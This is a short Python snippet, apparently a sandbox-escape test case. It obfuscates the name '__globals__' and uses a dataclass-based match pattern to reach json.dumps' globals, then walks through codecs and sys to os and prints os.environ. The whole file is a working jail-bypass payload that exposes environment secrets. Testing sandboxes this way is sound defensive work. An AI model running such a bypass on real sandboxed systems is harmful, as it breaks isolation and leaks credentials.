# reaches: make_dataclass with a computed field makes a pattern that reads it from a function
import dataclasses, json
from abc import ABC
u = chr(95) * 2
C = dataclasses.make_dataclass("C", [(u + "globals" + u, object)], bases=(ABC,))
C.register(type(lambda: 0))
match json.dumps:
    case C(g):
        print(g["codecs"].open.__globals__["sys"].modules["os"].environ)
